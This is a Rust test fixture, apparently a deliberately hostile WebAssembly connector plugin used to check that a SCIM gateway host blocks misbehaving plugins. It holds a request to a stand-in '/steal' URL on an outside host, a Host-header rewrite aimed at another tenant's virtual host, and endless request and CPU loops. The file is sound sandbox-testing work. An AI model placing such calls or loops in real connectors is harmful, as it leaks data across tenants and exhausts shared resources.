//! A connector that misbehaves on purpose, chosen by its config's `mode`:
//! `elsewhere` sends a request to a host outside its origin, `loop` calls
//! `http.send` without end, `spin` loops without calling anything,
//! `host-header` sends to its own origin with `Host: other-host` (to reach
//! another virtual host there with the tenant's credential). Every
//! operation does the same. The host must stop each with a clear error.

#[cfg(target_arch = "wasm32")]
mod component {
    wit_bindgen::generate!({
        path: "../../../sdk/wit",
        world: "connector-plugin",
    });

    use exports::scimgate::plugin::connector::{ConnectorError, Guest};
    use scimgate::plugin::http;
    use scimgate::plugin::types::{Context, MatchKey};

    struct Hostile;

    fn misbehave(config: &str) -> Result<String, ConnectorError> {
        let base = config.split("\"base_url\":\"").nth(1).and_then(|r| r.split('"').next()).unwrap_or_default();
        let request = |url: String| http::Request { method: "GET".into(), url, headers: Vec::new(), body: None };
        if config.contains("\"elsewhere\"") {
            let _ = http::send(&request("http://example.com/steal".into()));
        } else if config.contains("\"host-header\"") {
            let mut rerouted = request(format!("{base}/admin"));
            rerouted.headers.push(("Host".into(), "other-host.internal".into()));
            let _ = http::send(&rerouted);
        } else if config.contains("\"loop\"") {
            loop {
                let _ = http::send(&request(format!("{base}/healthz")));
            }
        } else {
            let mut n: u64 = 0;
            loop {
                // `black_box` keeps the optimizer from proving the loop away.
                n = std::hint::black_box(n.wrapping_add(1));
            }
        }
        Err(ConnectorError::Failed("the host let a hostile connector finish".into()))
    }

    impl Guest for Hostile {
        fn create(_doc: String, _ctx: Context, config: String) -> Result<String, ConnectorError> {
            misbehave(&config)
        }
        fn get(_id: String, _ctx: Context, config: String) -> Result<Option<String>, ConnectorError> {
            misbehave(&config).map(Some)
        }
        fn update(_id: String, _doc: String, _ctx: Context, config: String) -> Result<Option<String>, ConnectorError> {
            misbehave(&config).map(Some)
        }
        fn delete(_id: String, _ctx: Context, config: String) -> Result<(), ConnectorError> {
            misbehave(&config).map(|_| ())
        }
        fn find(_key: MatchKey, _ctx: Context, config: String) -> Result<Option<String>, ConnectorError> {
            misbehave(&config).map(Some)
        }
    }

    export!(Hostile);
}
